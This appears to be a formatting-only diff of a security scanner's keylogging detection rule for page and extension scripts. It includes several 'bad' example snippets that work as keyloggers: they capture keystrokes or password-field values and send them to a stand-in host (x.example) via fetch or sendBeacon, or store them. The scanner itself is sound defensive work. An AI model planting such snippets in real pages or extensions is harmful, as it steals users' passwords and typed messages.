@@ -1,4 +1,13 @@
-import { apiPath, callsOf, constant, defsOf, nameOf, Op, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsOf,
+  constant,
+  defsOf,
+  nameOf,
+  Op,
+  propertyOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts, contentExample } from './checkScripts.ts';
 import { listenersOf } from './listeners.ts';
@@ -19,44 +28,91 @@ export const keyLogging = defineRule({
   cwe: 'CWE-359',
   references: ['https://attack.mitre.org/techniques/T1056/001/'],
   why: 'Passwords, messages and card numbers are typed into pages. A script that listens to every key of a page and keeps or sends what it hears records all of them.',
-  remedy: 'Listen only in your own fields, or only for the shortcuts that you need, and neither keep nor send what was typed.',
+  remedy:
+    'Listen only in your own fields, or only for the shortcuts that you need, and neither keep nor send what was typed.',
   check: checkScripts(function* ({ script, file, facts, hit }) {
     if (!runsInPages(facts, file.path)) return;
     for (const call of few(callsOf(script, 'Object.defineProperty', 'Reflect.defineProperty'))) {
-      if (!/^HTML(Input|TextArea)Element\.prototype$/.test(apiPath(script, call.args[0] ?? 0) ?? '') || constant(script, call.args[1] ?? 0) !== 'value') continue;
+      if (
+        !/^HTML(Input|TextArea)Element\.prototype$/.test(apiPath(script, call.args[0] ?? 0) ?? '') ||
+        constant(script, call.args[1] ?? 0) !== 'value'
+      )
+        continue;
       const told = ['get', 'set'].some((name) => {
         const fn = functionOf(script, propertyOf(script, call.args[2] ?? 0, name));
-        return fn !== undefined && callsWithin(script, fn, 1).some((inner) => /^(postMessage|dispatchEvent|sendMessage|sendBeacon|fetch|send)$/.test(nameOf(script, inner.callee)));
+        return (
+          fn !== undefined &&
+          callsWithin(script, fn, 1).some((inner) =>
+            /^(postMessage|dispatchEvent|sendMessage|sendBeacon|fetch|send)$/.test(nameOf(script, inner.callee)),
+          )
+        );
       });
       if (told) yield hit(call.value, { message: 'Every field tells the script what is entered into it.' });
     }
-    for (const listener of few(listenersOf(script, 'keydown', 'keyup', 'keypress', 'input', 'beforeinput', 'change', 'focusout').filter((one) => one.everywhere))) {
+    for (const listener of few(
+      listenersOf(script, 'keydown', 'keyup', 'keypress', 'input', 'beforeinput', 'change', 'focusout').filter(
+        (one) => one.everywhere,
+      ),
+    )) {
       const fn = script.functions[listener.fn];
       if (fn === undefined) continue;
       const typed = readsBetween(script, fn.start, fn.end, listener.event.startsWith('key') ? KEYS : VALUES);
-      if (listener.event.startsWith('key')) for (const value of readsBetween(script, fn.start, fn.end, new Set(['value']))) typed.add(value);
+      if (listener.event.startsWith('key'))
+        for (const value of readsBetween(script, fn.start, fn.end, new Set(['value']))) typed.add(value);
       const out = leavesBy(script, typed);
       if (out === undefined) continue;
-      if (out.kind === 'network') yield hit(listener.value, { severity: 'critical', message: `What is typed is sent to ${out.to}.` });
-      else if (gathers(script, typed)) yield hit(listener.value, { message: out.kind === 'message' ? 'What is typed is gathered and handed to the background.' : 'What is typed is gathered and stored.' });
-      else yield hit(listener.value, { severity: 'low', confidence: 'low', message: 'Single keys are handed on: a shortcut, or a recorder.' });
+      if (out.kind === 'network')
+        yield hit(listener.value, { severity: 'critical', message: `What is typed is sent to ${out.to}.` });
+      else if (gathers(script, typed))
+        yield hit(listener.value, {
+          message:
+            out.kind === 'message'
+              ? 'What is typed is gathered and handed to the background.'
+              : 'What is typed is gathered and stored.',
+        });
+      else
+        yield hit(listener.value, {
+          severity: 'low',
+          confidence: 'low',
+          message: 'Single keys are handed on: a shortcut, or a recorder.',
+        });
     }
   }),
   examples: {
     bad: [
-      contentExample('let buffer = ""; document.addEventListener("keydown", (e) => { buffer += e.key; }); setInterval(() => { fetch("https://x.example/k", { method: "POST", body: buffer }); buffer = ""; }, 5000);'),
-      contentExample('const keys = []; window.onkeypress = function (e) { keys.push(String.fromCharCode(e.which)); if (keys.length > 20) chrome.runtime.sendMessage({ keys: keys.join("") }); };'),
-      contentExample('document.addEventListener("input", (e) => { navigator.sendBeacon("https://x.example/i", e.target.value); }, true);'),
-      contentExample('var log = ""; $(document).on("keyup", function (e) { log += e.key; chrome.storage.local.set({ log: log }); });'),
-      contentExample('const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { get() { const v = d.get.call(this); if (this.type === "password") window.postMessage({ v }, "*"); return v; }, set(v) { d.set.call(this, v); } });'),
+      contentExample(
+        'let buffer = ""; document.addEventListener("keydown", (e) => { buffer += e.key; }); setInterval(() => { fetch("https://x.example/k", { method: "POST", body: buffer }); buffer = ""; }, 5000);',
+      ),
+      contentExample(
+        'const keys = []; window.onkeypress = function (e) { keys.push(String.fromCharCode(e.which)); if (keys.length > 20) chrome.runtime.sendMessage({ keys: keys.join("") }); };',
+      ),
+      contentExample(
+        'document.addEventListener("input", (e) => { navigator.sendBeacon("https://x.example/i", e.target.value); }, true);',
+      ),
+      contentExample(
+        'var log = ""; $(document).on("keyup", function (e) { log += e.key; chrome.storage.local.set({ log: log }); });',
+      ),
+      contentExample(
+        'const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { get() { const v = d.get.call(this); if (this.type === "password") window.postMessage({ v }, "*"); return v; }, set(v) { d.set.call(this, v); } });',
+      ),
     ],
     good: [
-      contentExample('document.addEventListener("change", (e) => { if (e.target.matches("#mine-toggle")) chrome.storage.local.set({ on: e.target.checked }); });'),
-      contentExample('Object.defineProperty(HTMLInputElement.prototype, "value", { get() { return d.get.call(this); }, set(v) { d.set.call(this, v); this.classList.toggle("filled", v !== ""); } });'),
+      contentExample(
+        'document.addEventListener("change", (e) => { if (e.target.matches("#mine-toggle")) chrome.storage.local.set({ on: e.target.checked }); });',
+      ),
+      contentExample(
+        'Object.defineProperty(HTMLInputElement.prototype, "value", { get() { return d.get.call(this); }, set(v) { d.set.call(this, v); this.classList.toggle("filled", v !== ""); } });',
+      ),
       contentExample('document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });'),
-      contentExample('document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "k") chrome.runtime.sendMessage({ open: true }); });'),
-      contentExample('const box = document.createElement("input"); box.addEventListener("input", (e) => { fetch("https://x.example/search?q=" + box.value); });'),
-      contentExample('let last = ""; window.addEventListener("keydown", (e) => { last = e.key; if (last === "g") scrollTo(0, 0); });'),
+      contentExample(
+        'document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "k") chrome.runtime.sendMessage({ open: true }); });',
+      ),
+      contentExample(
+        'const box = document.createElement("input"); box.addEventListener("input", (e) => { fetch("https://x.example/search?q=" + box.value); });',
+      ),
+      contentExample(
+        'let last = ""; window.addEventListener("keydown", (e) => { last = e.key; if (last === "g") scrollTo(0, 0); });',
+      ),
     ],
   },
 });
@@ -69,17 +125,21 @@ function gathers(script: ScriptFacts, typed: ReadonlySet<number>): boolean {
     const op = script.op[value];
     if (op === Op.concat || op === Op.choice || op === Op.array) {
       const list = script.a[value] as number;
-      for (let n = 1; n <= (script.lists[list] as number); n++) if (joins(script.lists[list + n] as number, depth + 1)) return true;
+      for (let n = 1; n <= (script.lists[list] as number); n++)
+        if (joins(script.lists[list + n] as number, depth + 1)) return true;
     }
     if (op === Op.object) {
       const list = script.a[value] as number;
-      for (let n = 2; n <= (script.lists[list] as number); n += 2) if (joins(script.lists[list + n] as number, depth + 1)) return true;
+      for (let n = 2; n <= (script.lists[list] as number); n += 2)
+        if (joins(script.lists[list + n] as number, depth + 1)) return true;
     }
     if (op === Op.call && apiPath(script, script.a[value] as number) !== undefined) {
       const list = script.b[value] as number;
-      for (let n = 1; n <= (script.lists[list] as number); n++) if (joins(script.lists[list + n] as number, depth + 1)) return true;
+      for (let n = 1; n <= (script.lists[list] as number); n++)
+        if (joins(script.lists[list + n] as number, depth + 1)) return true;
     }
-    if (op === Op.ref) return [...defsOf(script, script.a[value] as number)].slice(0, 4).some((def) => joins(def, depth + 1));
+    if (op === Op.ref)
+      return [...defsOf(script, script.a[value] as number)].slice(0, 4).some((def) => joins(def, depth + 1));
     return false;
   };
   for (const values of usageOf(script).filled.values()) if (values.some((value) => joins(value, 0))) return true;
@@ -89,7 +149,8 @@ function gathers(script: ScriptFacts, typed: ReadonlySet<number>): boolean {
     if (script.op[value] !== Op.concat) continue;
     const list = script.a[value] as number;
     const own = Array.from({ length: script.lists[list] as number }, (_, n) => script.lists[list + 1 + n] as number);
-    if (own.some((part) => script.op[part] === Op.ref && script.a[part] === script.defs[at]) && joins(value, 0)) return true;
+    if (own.some((part) => script.op[part] === Op.ref && script.a[part] === script.defs[at]) && joins(value, 0))
+      return true;
   }
   return false;
 }
